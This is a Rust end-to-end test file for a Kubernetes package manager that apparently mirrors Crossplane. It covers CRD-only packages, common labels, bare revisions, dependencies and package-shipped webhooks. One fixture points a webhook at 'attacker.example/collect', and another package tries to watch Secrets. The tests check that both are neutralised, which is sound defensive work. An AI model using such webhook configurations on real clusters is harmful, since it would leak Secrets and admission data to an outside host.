//! Package shapes upstream allows, built by this project's `xpkg`: CRDs alone, labels and
//! annotations for everything, webhook configurations, a revision without spec, function and
//! configuration dependencies.

use super::*;

/// A package that runs nothing (CRDs alone) is Healthy without claiming a
/// healthy runtime.
#[test]
fn a_package_of_crds_alone_runs_nothing_and_claims_no_runtime() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("crdonly"));
    let (file, crd) = test_crd(&g, "Thing");
    let dir = package_dir("provider-crds", "", &[(file, crd)]);
    let reference = format!("{}/crdonly/provider-crds:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, None);
    let name = testenv::unique_name("crdonly");
    apply(&provider_yaml(&name, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the CRD-only Provider Healthy",
        || provider_healthy(&name),
        explain,
    );
    let revs = revisions_of(&name);
    let r = revs.last().unwrap();
    assert!(r["spec"]["image"].is_null(), "{r}");
    assert!(
        condition(r, "RuntimeHealthy").is_none(),
        "a package that runs nothing claims no runtime: {r}"
    );
    assert!(runtime_pods(&name).is_empty());
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}

/// Labels and annotations of a runtime object and the revision's roles.
fn marks(kind: &str, name: &str, namespaced: bool) -> (Value, Value) {
    let mut args = vec![kind, name];
    if namespaced {
        args.extend(["-n", RUNTIMES]);
    }
    let o = get_json(&args).unwrap_or_default();
    (
        o["metadata"]["labels"].clone(),
        o["metadata"]["annotations"].clone(),
    )
}

#[test]
fn common_labels_and_annotations_reach_everything_a_provider_makes_and_follow_an_edit() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("common"));
    let (file, crd) = test_crd(&g, "Thing");
    let crd_name = format!("things.{g}");
    let dir = package_dir("provider-common", "", &[(file, crd)]);
    let reference = format!("{}/common/provider-common:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    let name = testenv::unique_name("common");
    let spec = |labels: &str| {
        format!("  commonLabels: {{{labels}}}\n  commonAnnotations: {{owner: platform-team}}\n")
    };
    apply(&provider_yaml(
        &name,
        &reference,
        &spec("team: a, tier: gold"),
    ));
    // Everything, each checked: (what, labels, annotations).
    let everything = |name: &str| -> Vec<(String, Value, Value)> {
        let Some(rev) = revisions_of(name).last().cloned() else {
            return Vec::new();
        };
        let rev_name = rev["metadata"]["name"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let mut all = vec![(
            "ProviderRevision".to_owned(),
            rev["metadata"]["labels"].clone(),
            rev["metadata"]["annotations"].clone(),
        )];
        let (l, a) = marks("crd", &crd_name, false);
        all.push(("CRD".into(), l, a));
        for (kind, obj) in [
            ("serviceaccount", name.to_owned()),
            ("service", name.to_owned()),
            ("deployment", rev_name.clone()),
        ] {
            let (l, a) = marks(kind, &obj, true);
            all.push((kind.to_owned(), l, a));
        }
        for role in ["system", "aggregate-to-edit", "aggregate-to-view"] {
            let (l, a) = marks(
                "clusterrole",
                &format!("crossplane:provider:{rev_name}:{role}"),
                false,
            );
            all.push((format!("ClusterRole {role}"), l, a));
        }
        all
    };
    let check = |want: &[(&str, Option<&str>)]| {
        let all = everything(&name);
        let ok = !all.is_empty()
            && all.iter().all(|(_, labels, annotations)| {
                annotations["owner"] == "platform-team"
                    && want.iter().all(|(k, v)| match v {
                        Some(v) => labels[*k] == *v,
                        None => labels.get(*k).is_none(),
                    })
            });
        ok.then_some(())
    };
    let show = || {
        everything(&name)
            .iter()
            .map(|(what, l, a)| format!("{what}: labels {l} annotations {a}"))
            .collect::<Vec<_>>()
            .join("\n")
    };
    wait_blocking(
        Duration::from_secs(120),
        "commonLabels and commonAnnotations on the revision, CRD, ServiceAccount, Service, Deployment and ClusterRoles",
        || check(&[("team", Some("a")), ("tier", Some("gold"))]),
        show,
    );
    // The pods carry them too.
    let pod_labels = runtime_pods(&name)
        .first()
        .map(|p| p["metadata"]["labels"].clone())
        .unwrap_or_default();
    assert_eq!(pod_labels["team"], "a", "{pod_labels}");
    // An edit: one changes, one goes.
    apply(&provider_yaml(&name, &reference, &spec("team: b")));
    wait_blocking(
        Duration::from_secs(120),
        "the edited commonLabels everywhere (team=b, tier gone)",
        || check(&[("team", Some("b")), ("tier", None)]),
        show,
    );
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}

fn webhook_yaml(name: &str, group: &str, rules: &str) -> String {
    format!(
        "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: {name}\nwebhooks:\n- name: things.{group}\n  clientConfig:\n    url: https://attacker.example:443/collect\n  rules:\n{rules}  sideEffects: None\n  failurePolicy: Ignore\n  admissionReviewVersions: [v1]\n"
    )
}

#[test]
fn a_packages_webhook_configuration_calls_only_its_own_runtime_about_its_own_kinds() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("hooks"));
    let (file, crd) = test_crd(&g, "Thing");
    let name = testenv::unique_name("hooks");
    let hook = format!("{name}-validate");
    let dir = package_dir("provider-hooks", "", &[(file, crd)]);
    // Beside the CRD, the package ships a webhook configuration for its
    // own kind, whose URL points elsewhere.
    std::fs::write(
        dir.join("crds/webhooks.yaml"),
        webhook_yaml(
            &hook,
            &g,
            &format!("  - {{apiGroups: [\"{g}\"], apiVersions: [v1alpha1], operations: [CREATE, UPDATE], resources: [things]}}\n"),
        ),
    )
    .unwrap();
    let reference = format!("{}/hooks/provider-hooks:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    apply(&provider_yaml(&name, &reference, ""));
    let installed = wait_blocking(
        Duration::from_secs(120),
        "the package's ValidatingWebhookConfiguration installed",
        || get_json(&["validatingwebhookconfiguration", &hook]),
        explain,
    );
    let client = &installed["webhooks"][0]["clientConfig"];
    assert!(client.get("url").is_none(), "{client}");
    assert_eq!(client["service"]["name"], name.as_str());
    assert_eq!(client["service"]["namespace"], RUNTIMES);
    assert_eq!(client["service"]["port"], 9443);
    let secret = get_json(&["secret", &format!("{name}-tls-server"), "-n", RUNTIMES]).unwrap();
    assert_eq!(
        client["caBundle"], secret["data"]["ca.crt"],
        "the API server trusts the provider's CA"
    );
    let revision = revisions_of(&name).last().cloned().unwrap();
    assert_eq!(
        installed["metadata"]["ownerReferences"][0]["name"],
        revision["metadata"]["name"]
    );

    // One that would see Secrets is refused, and nothing of it installs.
    let g2 = format!("{}.example.org", testenv::unique_name("snoop"));
    let (file, crd) = test_crd(&g2, "Thing");
    let name2 = testenv::unique_name("snoop");
    let hook2 = format!("{name2}-snoop");
    let dir = package_dir("provider-snoop", "", &[(file, crd)]);
    std::fs::write(
        dir.join("crds/webhooks.yaml"),
        webhook_yaml(
            &hook2,
            &g2,
            "  - {apiGroups: [\"\"], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}\n",
        ),
    )
    .unwrap();
    let reference = format!("{}/snoop/provider-snoop:v1", shipped().registry.address);
    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
    apply(&provider_yaml(&name2, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the snooping package refused, naming the rule",
        || {
            let r = revisions_of(&name2).last().cloned()?;
            let (status, message) = condition(&r, "Healthy")?;
            (status == "False"
                && message.contains(&format!("ValidatingWebhookConfiguration {hook2}"))
                && message.contains("resource \"secrets\""))
            .then_some(())
        },
        explain,
    );
    assert!(get_json(&["validatingwebhookconfiguration", &hook2]).is_none());
    assert!(get_json(&["crd", &format!("things.{g2}")]).is_none());
    for n in [&name, &name2] {
        kubectl(&["delete", "providers.pkg.crossplane.io", n, "--wait=false"]);
    }
}

/// A ProviderRevision without `spec` is accepted, as upstream's API accepts
/// it, and the package-manager reads it like any other (it crashes on
/// nothing and keeps reconciling).
#[test]
fn a_provider_revision_without_spec_is_accepted_and_read() {
    shipped();
    let (_, restarts) = e2e::shipped::pod_of("package-manager");
    let name = testenv::unique_name("bare");
    apply(&format!(
        "apiVersion: pkg.crossplane.io/v1\nkind: ProviderRevision\nmetadata:\n  name: {name}\n"
    ));
    let r = get_json(&["providerrevisions.pkg.crossplane.io", &name]).unwrap();
    assert_eq!(r["spec"]["desiredState"], "Inactive", "{r}");
    wait_blocking(
        Duration::from_secs(60),
        "the package-manager's condition on the bare revision",
        || {
            let r = get_json(&["providerrevisions.pkg.crossplane.io", &name])?;
            condition(&r, "RuntimeHealthy").map(|_| ())
        },
        explain,
    );
    kubectl(&[
        "delete",
        "providerrevisions.pkg.crossplane.io",
        &name,
        "--timeout=60s",
    ]);
    assert_eq!(e2e::shipped::pod_of("package-manager").1, restarts);
}

/// A dependency on a Function or a Configuration is named on the revision
/// as one this package-manager does not install; no Provider is made for
/// it.
#[test]
fn a_function_or_configuration_dependency_is_named_not_installed_as_a_provider() {
    shipped();
    let g = format!("{}.example.org", testenv::unique_name("deps"));
    let (file, crd) = test_crd(&g, "Thing");
    let registry = &shipped().registry.address;
    let dir = package_dir(
        "provider-deps",
        &format!(
            "  dependsOn:\n  - function: {registry}/fns/function-patch:v0.1.0\n    version: \">=v0.1.0\"\n  - configuration: {registry}/cfgs/platform:v1.0.0\n    version: \">=v1.0.0\"\n"
        ),
        &[(file, crd)],
    );
    let reference = format!("{registry}/deps/provider-deps:v1");
    xpkg_push(&dir, &reference, None);
    let name = testenv::unique_name("deps");
    apply(&provider_yaml(&name, &reference, ""));
    wait_blocking(
        Duration::from_secs(120),
        "the revision naming both dependencies as kinds not installed",
        || {
            let r = revisions_of(&name).last().cloned()?;
            let (status, message) = condition(&r, "Healthy")?;
            (status == "False"
                && message.contains("is a function package")
                && message.contains("is a configuration package"))
            .then_some(())
        },
        explain,
    );
    let providers = kubectl(&["get", "providers.pkg.crossplane.io", "-o", "name"]);
    assert!(
        !providers.contains("function-patch") && !providers.contains("platform"),
        "a Function or Configuration was installed as a Provider: {providers}"
    );
    kubectl(&[
        "delete",
        "providers.pkg.crossplane.io",
        &name,
        "--wait=false",
    ]);
}
